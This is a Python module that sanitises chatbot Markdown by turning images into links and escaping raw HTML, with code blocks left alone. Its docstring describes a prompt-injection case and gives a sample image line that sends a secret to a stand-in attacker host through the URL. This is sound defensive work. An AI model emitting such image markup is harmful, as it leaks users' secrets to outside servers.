"""Markdown written by a model (or pasted by a user) made inert before the Chatbot renders it.

The Chatbot renders Markdown and sanitised HTML, and the sanitiser keeps `<img src=...>`:
a model told by a prompt injection to write `![](https://evil.example/?q=<secret>)` would
make the browser send that URL. So, outside code, images become links (nothing loads
until the user clicks) and raw HTML is shown as text (`<` becomes `&lt;`). Code blocks
and code spans are left alone: the renderer already shows them as text.

Only what is surely code is skipped: fences opened at the start of a line (column 0) and
code spans inside one line. Anything else counts as prose and is escaped, which at worst
shows a literal `&lt;` inside an unusual code block; never the other way round.
"""

from __future__ import annotations

import html
import re
from urllib.parse import quote

#: What an image becomes: a link whose text says it is an image.
IMAGE_LINK = "[🖼️ "
_FENCE_OPEN = re.compile(r"(`{3,}|~{3,})(.*)")
_BACKTICKS = re.compile(r"`+")
_IMG_TAG = re.compile(r"<img\b[^>]*>?", re.IGNORECASE)
_ATTR = r"""\b{name}\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))"""
_SRC = re.compile(_ATTR.format(name="src"), re.IGNORECASE)
_ALT = re.compile(_ATTR.format(name="alt"), re.IGNORECASE)
# Characters a Markdown link destination or text cannot carry as they are.
_URL_SAFE = ":/?#@!$&'*+,;=%~.-_"


def inert_markdown(text: str) -> str:
    """`text` with images turned into links and raw HTML escaped, code kept as it is."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        if fence is not None:
            out.append(line)
            if _closes(line, fence):
                fence = None
            continue
        opened = _FENCE_OPEN.match(line)
        # A backtick fence's info string may not contain backticks (then it is not a fence).
        if opened and not (opened.group(1)[0] == "`" and "`" in opened.group(2)):
            out.append(_inert_prose("".join(prose)))
            prose = []
            fence = opened.group(1)
            out.append(line)
            continue
        prose.append(line)
    out.append(_inert_prose("".join(prose)))
    return "".join(out)


def _closes(line: str, fence: str) -> bool:
    stripped = line.strip()
    return (len(line) - len(line.lstrip(" ")) <= 3 and len(stripped) >= len(fence)
            and set(stripped) == {fence[0]})


def _inert_prose(text: str) -> str:
    return "".join(_inert_line(line) for line in text.splitlines(keepends=True))


def _inert_line(line: str) -> str:
    """One line: code spans kept, the rest escaped."""
    out: list[str] = []
    done = 0  # everything before this index is in `out`
    search = 0
    while (run := _BACKTICKS.search(line, search)) is not None:
        search = run.end()
        if run.start() > 0 and line[run.start() - 1] == "\\":
            continue  # an escaped backtick opens nothing
        closing = re.compile(rf"(?<!`){run.group()}(?!`)").search(line, run.end())
        if closing is None:
            continue
        out.append(_escape(line[done:run.start()]))
        out.append(line[run.start():closing.end()])
        done = search = closing.end()
    out.append(_escape(line[done:]))
    return "".join(out)


def _escape(prose: str) -> str:
    prose = _IMG_TAG.sub(_img_as_link, prose)
    return prose.replace("<", "&lt;").replace("![", IMAGE_LINK)


def _img_as_link(tag: re.Match[str]) -> str:
    """An HTML image tag as a Markdown link to its source (escaped text if it has none)."""
    src = _attribute(_SRC, tag.group())
    if not src:
        return tag.group().replace("<", "&lt;")
    alt = re.sub(r"[\[\]\\`<>]", "", _attribute(_ALT, tag.group()) or "image").strip()
    return f"{IMAGE_LINK}{alt or 'image'}]({quote(src, safe=_URL_SAFE)})"


def _attribute(pattern: re.Pattern[str], tag: str) -> str:
    found = pattern.search(tag)
    if found is None:
        return ""
    return html.unescape(next(g for g in found.groups() if g is not None))
